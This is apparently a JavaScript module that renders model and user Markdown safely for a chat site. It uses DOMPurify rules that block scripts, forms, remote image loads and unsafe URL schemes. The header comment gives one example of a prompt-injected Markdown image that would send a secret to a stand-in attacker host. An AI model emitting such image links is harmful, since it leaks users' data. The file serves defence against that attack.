// Safe Markdown rendering: model output and user text are untrusted on every path.
// marked turns Markdown into HTML, DOMPurify removes anything that could run, and nothing in
// the result may fetch a URL: a prompt-injected ![](https://attacker/?q=secret) requests nothing.
"use strict";

(function () {
  const PURIFY_CONFIG = {
    USE_PROFILES: { html: true },
    FORBID_TAGS: [
      "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed",
      "svg", "math", "audio", "video", "source", "track", "picture", "link", "meta", "base",
    ],
    FORBID_ATTR: ["style", "srcset", "poster", "background", "ping", "action", "formaction"],
    // Links may point to the web, mail or this page; javascript: and other schemes are dropped.
    ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  };
  const { addCopyButton } = window.chatsiteCopy;
  const IMAGE_DATA_URL = /^data:image\/(?:png|gif|jpe?g|webp);/i;

  // Only inline (data:) images survive: any other src, even on this site, would be a request.
  DOMPurify.addHook("uponSanitizeAttribute", function (node, data) {
    if (data.attrName === "src" && !(node.nodeName === "IMG" && IMAGE_DATA_URL.test(data.attrValue))) {
      data.keepAttr = false;
    }
  });
  DOMPurify.addHook("afterSanitizeAttributes", function (node) {
    if (node.nodeName === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
    if (node.nodeName === "IMG" && !node.hasAttribute("src")) node.setAttribute("data-blocked", "");
  });

  function escapeText(text) {
    const div = document.createElement("div");
    div.textContent = text;
    return div.innerHTML;
  }

  // Raw HTML written in the Markdown is shown as text, like any chat does: only marked's own
  // tags reach DOMPurify, which still checks them (links, image sources, anything missed).
  // A block of it is a paragraph of its own with its line breaks, not text run together.
  function rawHtml(token) {
    if (!token.block) return escapeText(token.text);
    return `<p class="plain">${escapeText(token.text.replace(/\n+$/, ""))}</p>\n`;
  }

  const markdown = {
    parser: new marked.Marked({
      gfm: true,
      breaks: false,
      async: false,
      renderer: { html: rawHtml },
      tokenizer: {
        // marked passes text after an inline <code>, <pre>, <kbd> or <script> tag on unescaped
        // (raw mode); shown as text here, such a tag must leave the rest of the text as text.
        tag(src) {
          const token = marked.Tokenizer.prototype.tag.call(this, src);
          if (token) this.lexer.state.inRawBlock = false;
          return token || false;
        },
      },
    }),
    parse(text) {
      return this.parser.parse(text);
    },
  };

  // The one sanitiser every rendering path (whole text or live blocks) goes through.
  function sanitize(html) {
    return DOMPurify.sanitize(html, PURIFY_CONFIG);
  }

  // Sanitised HTML for Markdown text, also for half-finished Markdown mid-stream. If marked
  // fails, the text is shown escaped; either way the HTML passes through DOMPurify.
  function markdownToSafeHtml(text) {
    let html;
    try {
      html = markdown.parse(text);
    } catch (error) {
      html = "<pre>" + escapeText(text) + "</pre>";
    }
    return sanitize(html);
  }

  // A blocked image becomes a visible note, so the reader knows something was left out.
  function replaceBlockedImages(element) {
    element.querySelectorAll("img[data-blocked]").forEach(function (image) {
      const note = document.createElement("span");
      note.className = "blocked-image";
      const alt = image.getAttribute("alt");
      note.textContent = alt ? `[image not loaded: ${alt}]` : "[image not loaded]";
      image.replaceWith(note);
    });
  }

  // A fenced code block gets a head with its language and a copy button, and highlighting.
  function decorateCode(code) {
    try {
      window.hljs.highlightElement(code);
    } catch (error) {
      /* highlighting is decoration: the sanitised text is already there */
    }
    const pre = code.parentElement;
    const block = document.createElement("div");
    block.className = "code-block";
    const head = document.createElement("div");
    head.className = "code-head";
    const language = document.createElement("span");
    language.textContent = (code.className.match(/\blanguage-([\w+#.-]+)/) || [])[1] || "code";
    head.appendChild(language);
    addCopyButton(head, function () { return code.textContent; }, "Copy code", "copy code-copy small");
    pre.replaceWith(block);
    block.append(head, pre);
  }

  function decorate(element) {
    replaceBlockedImages(element);
    element.querySelectorAll("pre > code").forEach(decorateCode);
  }

  // A streaming reply is rendered block by block (marked's top-level tokens): a block whose
  // source is unchanged keeps its nodes, so a reader's selection and a finished code block's
  // copy button survive the next token. element -> {links, blocks: [{raw, nodes}]}
  const liveBlocks = new WeakMap();

  // Render into an element: sanitised HTML, highlighted code, a copy button per code block.
  // Any failure on the way leaves plain text, never unsanitised HTML.
  function renderMarkdown(element, text) {
    liveBlocks.delete(element); // its blocks' nodes are about to go
    try {
      element.innerHTML = markdownToSafeHtml(text);
      decorate(element);
    } catch (error) {
      element.classList.add("plain");
      element.textContent = text;
    }
  }

  // One top-level token as sanitised, decorated nodes: the same sanitiser and decoration as
  // a whole render (marked's parser output for a token list is its tokens' outputs joined).
  function blockNodes(token) {
    const holder = document.createElement("div");
    holder.innerHTML = sanitize(markdown.parser.parser([token]));
    decorate(holder);
    return [...holder.childNodes];
  }

  // How many leading blocks are unchanged. A block's source can change after it seemed done
  // (a paragraph followed by === becomes a heading; a list grows), so each is compared.
  function unchangedBlocks(blocks, tokens) {
    let count = 0;
    while (count < blocks.length && count < tokens.length && blocks[count].raw === tokens[count].raw) count++;
    return count;
  }

  // Render text that has grown since the last call, re-rendering from the first block that
  // differs. A new link definition can change any earlier block: then all are rendered again.
  function updateMarkdown(element, text) {
    try {
      const tokens = markdown.parser.lexer(text);
      const links = JSON.stringify(tokens.links);
      const state = liveBlocks.get(element);
      if (!state) {
        element.classList.remove("plain");
        element.replaceChildren();
      }
      const blocks = state ? state.blocks : [];
      const kept = state && state.links === links ? unchangedBlocks(blocks, tokens) : 0;
      for (const block of blocks.slice(kept)) block.nodes.forEach((node) => node.remove());
      const fresh = tokens.slice(kept).map((token) => ({ raw: token.raw, nodes: blockNodes(token) }));
      element.append(...fresh.flatMap((block) => block.nodes));
      liveBlocks.set(element, { links, blocks: blocks.slice(0, kept).concat(fresh) });
    } catch (error) {
      liveBlocks.delete(element);
      renderMarkdown(element, text);
    }
  }

  // The end of a live render: it must equal a whole render of the text. Kept nodes stay when
  // it does (a selection outlasts the reply's end); otherwise the whole render replaces them.
  function finishMarkdown(element, text) {
    updateMarkdown(element, text);
    liveBlocks.delete(element);
    const whole = element.cloneNode(false);
    whole.classList.remove("plain");
    renderMarkdown(whole, text);
    if (whole.isEqualNode(element)) return;
    element.className = whole.className;
    element.replaceChildren(...whole.childNodes);
  }

  // `markdown` is exported so a test can make the parser fail and watch the fallback.
  window.chatsiteRender = {
    renderMarkdown, updateMarkdown, finishMarkdown, markdownToSafeHtml, addCopyButton, markdown,
  };
})();
